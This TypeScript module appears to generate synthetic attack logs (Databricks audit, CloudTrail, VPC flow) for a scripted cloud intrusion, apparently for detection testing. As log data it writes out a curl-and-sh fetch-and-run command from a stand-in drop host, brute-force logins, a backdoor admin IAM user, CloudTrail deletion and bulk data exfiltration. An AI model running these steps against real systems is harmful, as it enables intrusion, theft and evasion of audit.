import { account, buckets, type Host, host, natAddress, person, workspaces } from './estate.ts';
import { random } from './random.ts';
import { type LogRecord, type SourceName, sourceNames } from './source.ts';
import {
  assumedRole,
  awsId,
  type Caller,
  cloudTrailRecord,
  consoleSignIn,
  crossAccountRole,
  iamUser,
  nodeRole,
  type Operation,
  objectResources,
  runInstances,
  securityGroup,
  transfer,
} from './traffic/cloudtrail.ts';
import { type AuditEvent, auditLine } from './traffic/databricks_audit.ts';
import { type Flow, flowLine, flowsOf } from './traffic/vpc_flow.ts';

/** One record of the attack, the same whatever the options. */
export interface StoryRecord extends LogRecord {
  /** Epoch milliseconds. */
  readonly time: number;
  /** Delivered hours later, where late records are asked for. */
  readonly late?: true;
  /** Delivered a second time, where duplicates are asked for. */
  readonly twice?: true;
}

/** The day of the attack, in UTC. */
export const storyDay = '2026-11-05';
/** Mallory's address. */
export const mallory = '203.0.113.66';
/** The address that the stolen data goes to. */
export const dropSite = '203.0.113.77';

const neighbour = host('us-east-1', 'node', 0);
/** The cluster node that Mallory takes over. */
export const victim: Host = {
  ...neighbour,
  address: '10.20.1.240',
  address6: '2001:db8:20:1::f0',
  networkInterface: 'eni-0f1e2d3c4b5a69788',
  instance: 'i-0a1b2c3d4e5f60718',
};
/** The cluster that the node belongs to. */
export const cluster = { id: '1105-080130-k3v9q2mz', name: 'ana exploration' };
/** Whose account it is in Databricks and in AWS. */
export const ana = { name: 'ana', email: 'ana@example.com', number: 9_001, databricksUser: '7000000099001' };
/** The user that Mallory makes to come back with. */
export const backdoor = { name: 'backup-svc', number: 9_002 };
/** Bytes that leave the node for the drop site between 10:15 and 10:55. */
export const stolenBytes = 2_400_000_000;

const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
const commandLine = 'aws-cli/2.31.9 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0 lang/python#3.13.7';
const trail = 'example-trail';
const publicAddress = '198.51.100.44';

const at = (time: string): number => Date.parse(`${storyDay}T${time}Z`);
const ids = random(2026, 11, 5);

function databricksStory(): readonly StoryRecord[] {
  const records: StoryRecord[] = [];
  const workspace = workspaces[0];
  const tell = (
    time: number,
    service: string,
    action: string,
    parameters: AuditEvent['parameters'],
    more: Partial<AuditEvent> = {},
    delivery: Pick<StoryRecord, 'late' | 'twice'> = {},
  ): void => {
    const byMallory = { email: ana.email, address: mallory, agent: browser, session: 'session-5d0c7e91ab34' };
    const event: AuditEvent = {
      ...{ workspace, time, service, action, request: ids.uuid(), parameters, response: { status: 200 } },
      ...byMallory,
      ...more,
    };
    records.push({ time, stream: String(workspace), text: auditLine(event), ...delivery });
  };
  const own = { address: '192.0.2.25', session: 'session-91e0b2d7c4f6' };
  const refused = { status: 401, error: 'Unauthorized: invalid username or password' };
  const unknown = { email: null, session: null, response: refused };

  tell(
    at('07:58:12'),
    'accounts',
    'samlLogin',
    { user: ana.email, authentication_method: 'BROWSER_BYO_IDP_SAML' },
    own,
  );
  tell(
    at('08:01:30'),
    'clusters',
    'create',
    {
      cluster_name: cluster.name,
      spark_version: '16.4.x-scala2.12',
      node_type_id: 'i3.xlarge',
      num_workers: '0',
      data_security_mode: 'SINGLE_USER',
    },
    { ...own, response: { status: 200, result: JSON.stringify({ cluster_id: cluster.id }) } },
  );
  for (let guess = 0; guess < 12; guess++)
    tell(at('08:40:05') + guess * 37_000, 'accounts', 'login', { user: person(guess).email }, unknown);
  for (let guess = 0; guess < 12; guess++)
    tell(at('08:55:20') + guess * 50_000, 'accounts', 'login', { user: ana.email }, unknown);
  tell(at('09:05:30'), 'accounts', 'login', { user: ana.email });
  tell(at('09:17:05'), 'accounts', 'deleteIpAccessList', {
    ipAccessListId: '3f1c5a7e-9b2d-4e60-8a1b-5c7d9e0f1a2b',
    userId: ana.databricksUser,
  });
  tell(
    at('09:21:40'),
    'accounts',
    'generateDbToken',
    { userId: ana.databricksUser, tokenExpirationTime: '-1', tokenHash: ids.hex(64) },
    {},
    { twice: true },
  );
  const path = `/Users/${ana.email}/exploration`;
  const notebookId = '1000000000777';
  tell(at('09:25:02'), 'notebook', 'attachNotebook', { notebookId, clusterId: cluster.id, path });
  for (const [time, commandText] of [
    ['09:26:12', '%sh id; uname -a; ip address'],
    [
      '09:26:50',
      `%sh curl -s http://${dropSite}:443/setup -o /local_disk0/tmp/.x/setup && sh /local_disk0/tmp/.x/setup`,
    ],
  ] as const)
    tell(at(time), 'notebook', 'runCommand', {
      ...{ notebookId, clusterId: cluster.id, commandId: ids.hex(16), executionTime: '1.204', status: 'finished' },
      commandLanguage: 'python',
      commandText,
    });

  const monitored = { email: null, address: null, agent: null, session: null };
  const sensor = (time: string, name: string, description: string, program: string, priority: string): void => {
    const uuid = ids.uuid();
    const result = JSON.stringify({
      actionName: name,
      UUID: uuid,
      Timestamp: `${storyDay}T${time}Z`,
      Description: description,
      AlertLabels: ['databricks'],
      Priority: priority,
      Confidence: 0.9,
      Location: { Host: `ip-${victim.address.replaceAll('.', '-')}`, Container: ids.hex(12) },
      ProcessInfo: { Pid: 4_711, Path: program, Args: [program], Uid: 0, User: 'root' },
      Lineage: [
        { Pid: 4_690, Path: '/bin/sh' },
        { Pid: 2_204, Path: '/databricks/python3/bin/python' },
      ],
    });
    const more = { ...monitored, request: uuid, response: { status: 200, result } };
    tell(at(time), 'capsule8-alerts-dataplane', name, { instanceId: victim.instance }, more);
  };
  sensor(
    '09:27:05',
    'Suspicious Interactive Shell',
    'A shell was started with its input on a network socket',
    '/bin/bash',
    'HIGH',
  );
  sensor('09:31:40', 'Kernel Module Loaded', 'A kernel module was loaded after boot', '/usr/sbin/insmod', 'HIGH');
  sensor(
    '09:33:15',
    'Userland Container Escape',
    'A process left its container through a helper program',
    '/usr/bin/nsenter',
    'CRITICAL',
  );
  sensor(
    '09:35:50',
    'Root Certificate Store Modified',
    'A root certificate was added',
    '/usr/sbin/update-ca-certificates',
    'HIGH',
  );

  tell(at('09:43:30'), 'workspace', 'workspaceConfEdit', {
    workspaceConfKeys: 'enableVerboseAuditLogs',
    workspaceConfValues: 'false',
  });
  const token = { agent: 'python-requests/2.32.5', session: null };
  tell(
    at('09:48:02'),
    'accounts',
    'tokenLogin',
    { user: ana.email, tokenId: ids.hex(32), authenticationMethod: 'API_EXT_PAT_TOKEN' },
    token,
  );
  tell(
    at('09:48:40'),
    'unityCatalog',
    'generateTemporaryTableCredential',
    { table_full_name: 'main.finance.customers', operation: 'READ', workspace_id: String(workspace) },
    token,
  );
  for (const [time, result] of [
    ['11:52:07', '/local_disk0/tmp/.x/setup: Unix.Trojan.Example-1 FOUND'],
    ['11:58:31', 'Infected files: 1'],
  ] as const) {
    const more = { ...monitored, response: { status: 200, result } };
    tell(at(time), 'clamAVScanService-dataplane', 'clamAVScanAction', { instanceId: victim.instance }, more, {
      late: true,
    });
  }
  return records;
}

function cloudTrailStory(): readonly StoryRecord[] {
  const records: StoryRecord[] = [];
  const tell = (
    time: number,
    caller: Caller,
    operation: Operation,
    delivery: Pick<StoryRecord, 'late' | 'twice'> = {},
  ): void => {
    const text = cloudTrailRecord(operation, caller, { time, request: ids.uuid(), event: ids.uuid() });
    records.push({ time, stream: 'us-east-1', text, ...delivery });
  };
  const api = (service: string, name: string, read: boolean, more: Partial<Operation> = {}): Operation => ({
    source: `${service}.amazonaws.com`,
    name,
    read,
    ...more,
  });

  const { networkInterface, address } = victim;
  const launched = at('08:02:10');
  tell(
    launched,
    {
      identity: assumedRole(crossAccountRole, 'databricks', at('08:00:00')),
      address: '198.51.100.20',
      agent: 'Databricks-Service/clusters aws-sdk-java/1.12.788',
    },
    runInstances(victim, launched, {
      ClusterId: cluster.id,
      ClusterName: cluster.name,
      Creator: ana.email,
      Name: `workerenv-${workspaces[0]}-${cluster.id}`,
    }),
  );

  const instanceIdentity = assumedRole(nodeRole, victim.instance, at('08:02:40'));
  const fromInstance = (agent: string): Caller => ({
    identity: instanceIdentity,
    address: natAddress[victim.region],
    agent,
  });
  tell(
    at('08:03:05'),
    fromInstance('aws-sdk-go/1.55.5 (go1.24.4; linux; amd64) amazon-ssm-agent/3.3.2299.0'),
    api('ssm', 'UpdateInstanceInformation', false, {
      parameters: {
        instanceId: victim.instance,
        agentVersion: '3.3.2299.0',
        agentStatus: 'Active',
        platformType: 'Linux',
        iPAddress: address,
        agentName: 'amazon-ssm-agent',
      },
    }),
  );

  const hidden = {
    type: 'IAMUser',
    accountId: account,
    accessKeyId: '',
    userName: 'HIDDEN_DUE_TO_SECURITY_REASONS',
  };
  for (const time of ['08:52:10', '08:53:25'])
    tell(
      at(time),
      { identity: hidden, address: mallory, agent: browser },
      { ...consoleSignIn('Failure', false), errorMessage: 'No username found in supplied account' },
    );
  const { arn, principalId } = iamUser(ana.name, ana.number);
  const signingIn: Caller = {
    identity: { type: 'IAMUser', principalId, accountId: account, accessKeyId: '', userName: ana.name },
    address: mallory,
    agent: browser,
  };
  for (let guess = 0; guess < 12; guess++)
    tell(at('08:55:00') + guess * 46_000, signingIn, consoleSignIn('Failure', false));
  const anaIn = { type: 'IAMUser', principalId, arn, accountId: account, userName: ana.name };
  tell(at('09:04:40'), { ...signingIn, identity: anaIn }, consoleSignIn('Success', false));
  const root = {
    type: 'Root',
    principalId: account,
    arn: `arn:aws:iam::${account}:root`,
    accountId: account,
    accessKeyId: '',
  };
  tell(at('09:12:20'), { ...signingIn, identity: root }, consoleSignIn('Success', false), { twice: true });

  tell(at('09:28:30'), fromInstance(commandLine), api('sts', 'GetCallerIdentity', true));
  const listBuckets = api('s3', 'ListBuckets', true, {
    parameters: { Host: 's3.amazonaws.com' },
    more: transfer(0, 1_402),
  });
  tell(at('09:29:10'), fromInstance(commandLine), listBuckets);

  const anaSession: Caller = {
    identity: iamUser(ana.name, ana.number, { began: at('09:04:40'), mfa: false }),
    address: mallory,
    agent: browser,
    fromConsole: true,
  };
  const allocationId = 'eipalloc-0a2b4c6d8e0f1a3b5';
  tell(
    at('09:37:10'),
    anaSession,
    api('ec2', 'AllocateAddress', false, {
      parameters: { domain: 'vpc' },
      response: { publicIp: publicAddress, domain: 'vpc', allocationId },
    }),
  );
  tell(
    at('09:37:20'),
    anaSession,
    api('ec2', 'AssociateAddress', false, {
      parameters: { allocationId, networkInterfaceId: networkInterface, privateIpAddress: address },
      response: { _return: true, associationId: 'eipassoc-0b3c5d7e9f1a2b4c6' },
    }),
  );
  tell(
    at('09:38:05'),
    anaSession,
    api('ec2', 'AuthorizeSecurityGroupIngress', false, {
      parameters: {
        groupId: securityGroup.groupId,
        ipPermissions: {
          items: [
            {
              ipProtocol: 'tcp',
              fromPort: 22,
              toPort: 22,
              groups: {},
              ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] },
              ipv6Ranges: {},
              prefixListIds: {},
            },
          ],
        },
      },
      response: {
        _return: true,
        securityGroupRuleSet: {
          items: [
            {
              groupOwnerId: account,
              groupId: securityGroup.groupId,
              securityGroupRuleId: 'sgr-0e1d2c3b4a5f60718',
              isEgress: false,
              ipProtocol: 'tcp',
              fromPort: 22,
              toPort: 22,
              cidrIpv4: '0.0.0.0/0',
            },
          ],
        },
      },
    }),
  );

  const stolen: Caller = { identity: instanceIdentity, address: mallory, agent: commandLine };
  tell(at('09:41:15'), stolen, api('sts', 'GetCallerIdentity', true));
  tell(at('09:41:40'), stolen, listBuckets);
  for (const [place, secret] of ['orders-db', 'payment', 'mail'].entries()) {
    const id = `arn:aws:secretsmanager:us-east-1:${account}:secret:app/${secret}-aBcDeF`;
    const who = `arn:aws:sts::${account}:assumed-role/${nodeRole.name}/${victim.instance}`;
    tell(
      at('09:42:05') + place * 11_000,
      stolen,
      api('secretsmanager', 'GetSecretValue', true, {
        version: '1.10',
        parameters: { secretId: id },
        error: [
          'AccessDeniedException',
          `User: ${who} is not authorized to perform: secretsmanager:GetSecretValue on resource: ${id} because no identity-based policy allows the secretsmanager:GetSecretValue action`,
        ],
      }),
    );
  }
  const bucket = buckets[2] ?? '';
  tell(
    at('09:43:00'),
    stolen,
    api('s3', 'ListObjects', true, {
      category: 'Data',
      parameters: { 'list-type': '2', bucketName: bucket, Host: `${bucket}.s3.amazonaws.com`, prefix: '' },
      more: transfer(0, 20_114),
      resources: [
        { type: 'AWS::S3::Object', ARNPrefix: `arn:aws:s3:::${bucket}/` },
        { accountId: account, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` },
      ],
    }),
  );
  for (let part = 0; part < 12; part++) {
    const key = `customers/export-${String(part).padStart(2, '0')}.csv.gz`;
    tell(
      at('09:43:20') + part * 23_000,
      stolen,
      api('s3', 'GetObject', true, {
        category: 'Data',
        parameters: { bucketName: bucket, Host: `${bucket}.s3.amazonaws.com`, key },
        more: transfer(0, 41_943_040 + part),
        resources: objectResources(bucket, key),
      }),
    );
  }

  const created = 'Nov 5, 2026, 9:52:00 AM';
  tell(
    at('09:52:00'),
    anaSession,
    api('iam', 'CreateUser', false, {
      version: '1.10',
      parameters: { userName: backdoor.name },
      response: {
        user: {
          path: '/',
          userName: backdoor.name,
          userId: awsId('AIDA', backdoor.number),
          arn: `arn:aws:iam::${account}:user/${backdoor.name}`,
          createDate: created,
        },
      },
    }),
  );
  tell(
    at('09:52:40'),
    anaSession,
    api('iam', 'CreateAccessKey', false, {
      version: '1.10',
      parameters: { userName: backdoor.name },
      response: {
        accessKey: {
          userName: backdoor.name,
          accessKeyId: awsId('AKIA', backdoor.number),
          status: 'Active',
          createDate: created,
        },
      },
    }),
  );
  tell(
    at('09:53:10'),
    anaSession,
    api('iam', 'AttachUserPolicy', false, {
      version: '1.10',
      parameters: { userName: backdoor.name, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    }),
  );

  const comingBack: Caller = {
    identity: iamUser(backdoor.name, backdoor.number),
    address: mallory,
    agent: commandLine,
  };
  const trailArn = `arn:aws:cloudtrail:us-east-1:${account}:trail/${trail}`;
  tell(at('10:55:30'), comingBack, api('sts', 'GetCallerIdentity', true));
  tell(at('10:56:05'), comingBack, api('cloudtrail', 'DescribeTrails', true, { version: '1.09' }));
  tell(
    at('10:56:40'),
    comingBack,
    api('cloudtrail', 'StopLogging', false, { version: '1.09', parameters: { name: trailArn } }),
  );
  tell(
    at('10:57:30'),
    comingBack,
    api('cloudtrail', 'DeleteTrail', false, { version: '1.09', parameters: { name: trailArn } }),
  );
  return records;
}

function flowStory(): readonly StoryRecord[] {
  const records: StoryRecord[] = [];
  const tell = (flow: Flow, delivery: Pick<StoryRecord, 'late' | 'twice'> = {}): void => {
    records.push({ time: flow.start * 1_000, stream: flow.host.region, text: flowLine(flow), ...delivery });
  };
  const second = (time: string): number => at(time) / 1_000;
  const victimEnd = { host: victim, protocol: 6, path: 8 };

  for (let call = 0; call < 12; call++) {
    const start = second('08:03:20') + call * 371;
    const exchange = { ...victimEnd, opener: 'host' as const, peer: '198.51.100.20', start, end: start + 40 };
    const bytes = [2_200 + call * 13, 9_100 + call * 57] as const;
    for (const flow of flowsOf({ ...exchange, clientPort: 40_100 + call, serverPort: 443, bytes, packets: [14, 17] }))
      tell(flow);
  }
  for (let call = 0; call < 6; call++) {
    const start = second('09:27:20') + call * 300;
    const exchange = { ...victimEnd, opener: 'host' as const, peer: dropSite, start, end: start + 20 };
    const bytes = [1_840 + call, 5_320 + call * 3] as const;
    for (const flow of flowsOf({ ...exchange, clientPort: 41_200 + call, serverPort: 443, bytes, packets: [11, 12] }))
      tell(flow);
  }

  const knock = (to: Host, start: number, sourcePort: number, port: number): Flow => ({
    host: to,
    start,
    end: start + 1,
    source: mallory,
    destination: to.address,
    sourcePort,
    destinationPort: port,
    protocol: 6,
    packets: 1,
    bytes: 44,
    action: 'REJECT',
    flags: 2,
    direction: 'ingress',
  });
  const scanned = [
    21, 23, 25, 110, 111, 135, 139, 143, 389, 465, 514, 587, 631, 636, 873, 902, 990, 993, 995, 1_080, 1_194, 1_433,
    1_521, 1_723, 2_375, 2_376, 3_000, 3_128, 3_306, 3_690, 4_040, 4_369, 5_000, 5_060, 5_432, 5_601, 5_672, 5_900,
    5_984, 6_000, 6_379, 6_443, 7_001, 7_077, 7_474, 8_000, 8_008, 8_080, 8_081, 8_088, 8_443, 8_888, 9_000, 9_042,
    9_090, 9_092, 9_200, 9_300, 10_000, 10_250, 11_211, 15_672, 27_017,
  ];
  for (const [place, port] of scanned.entries())
    tell(knock(victim, second('10:02:00') + place * 7, 50_000 + place, port));
  const opened = second('10:09:30');
  const ssh = { ...victimEnd, opener: 'peer' as const, peer: mallory, serverPort: 22 };
  for (const flow of flowsOf({
    ...ssh,
    start: opened,
    end: opened + 1,
    clientPort: 50_999,
    bytes: [104, 60],
    packets: [2, 1],
  }))
    tell(flow);
  for (let place = 0; place < 8; place++)
    tell(knock(host('us-east-1', 'node', place), second('10:10:00') + place * 6, 51_000 + place, 22));
  const hammered = [23, 445, 2_375, 5_900, 6_379, 8_080, 8_443, 9_200];
  for (let turn = 0; turn < 620; turn++) {
    const port = hammered[turn % hammered.length] ?? 23;
    tell(knock(victim, second('10:11:00') + Math.floor(turn * 2.7), 52_000 + turn, port));
  }
  for (let part = 0; part < 4; part++) {
    const start = second('10:14:00') + part * 600;
    const [bytes, packets] = [[31_200 + part * 811, 153_400 + part * 907] as const, [402, 511] as const];
    for (const flow of flowsOf({ ...ssh, start, end: start + 59, clientPort: 51_514, bytes, packets }))
      tell(
        { ...flow, flags: part === 0 ? (flow.direction === 'ingress' ? 2 : 18) : 0 },
        part === 0 ? { twice: true } : {},
      );
  }
  const minutes = 40;
  for (let part = 0; part < minutes; part++) {
    const start = second('10:15:00') + part * 60;
    const bytes = [stolenBytes / minutes, 612_000 + part * 31] as const;
    const exchange = { ...victimEnd, opener: 'host' as const, peer: dropSite, start, end: start + 59 };
    for (const flow of flowsOf({ ...exchange, clientPort: 47_812, serverPort: 443, bytes, packets: [41_200, 11_300] }))
      tell({ ...flow, flags: part === 0 ? (flow.direction === 'egress' ? 2 : 18) : part === minutes - 1 ? 1 : 0 });
  }
  return records;
}

const told: Record<SourceName, () => readonly StoryRecord[]> = {
  databricks_audit: databricksStory,
  cloudtrail: cloudTrailStory,
  vpc_flow: flowStory,
};

/** The records of the attack that a source has, in order of time; the same records each time. */
export function story(source: SourceName): readonly StoryRecord[] {
  ids.seed(2026, 11, sourceNames.indexOf(source));
  return [...told[source]()].sort((one, other) => one.time - other.time);
}
